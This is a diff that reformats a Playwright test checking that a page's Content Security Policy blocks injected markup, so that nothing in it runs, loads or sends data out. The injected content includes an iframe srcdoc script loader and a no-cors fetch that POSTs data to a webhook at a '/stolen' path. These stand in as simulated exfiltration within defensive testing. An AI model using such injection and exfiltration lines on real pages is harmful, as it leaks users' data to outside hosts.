@@ -44,11 +44,18 @@ test("markup that found its way into a page runs nothing, loads nothing and send
       add(`<iframe srcdoc="<script src='${script}'></script>"></iframe>`);
       document.getElementById("give")?.click();
       document.getElementById("go")?.click();
-      void fetch(`${elsewhere}/stolen`, { method: "POST", mode: "no-cors", body: "all of it" }).catch(() => undefined);
+      void fetch(`${elsewhere}/stolen`, {
+        method: "POST",
+        mode: "no-cors",
+        body: "all of it",
+      }).catch(() => undefined);
     },
     { elsewhere: webhookUrl, script },
   );
-  const stopped = () => pageProblems.unexpected().map((problem) => /^policy: (\S+ stopped \S+)/.exec(problem)?.[1] ?? "");
+  const stopped = () =>
+    pageProblems
+      .unexpected()
+      .map((problem) => /^policy: (\S+ stopped \S+)/.exec(problem)?.[1] ?? "");
   const expected = [
     "script-src-attr stopped inline",
     "script-src-elem stopped inline",
@@ -62,7 +69,13 @@ test("markup that found its way into a page runs nothing, loads nothing and send
   ];
   await expect.poll(stopped).toEqual(expect.arrayContaining(expected));
   expect(await page.evaluate(() => window.ran ?? [])).toEqual([]);
-  // Asked of the page itself: Playwright goes on waiting for the navigation that the policy has stopped.
-  expect(await page.evaluate(() => [document.querySelector("h1")?.textContent, window.location.pathname])).toEqual(["Agents", "/agents"]);
+  // Asked of the page itself: Playwright goes on waiting for the navigation that the policy has
+  // stopped.
+  expect(
+    await page.evaluate(() => [
+      document.querySelector("h1")?.textContent,
+      window.location.pathname,
+    ]),
+  ).toEqual(["Agents", "/agents"]);
   pageProblems.allow(/./);
 });
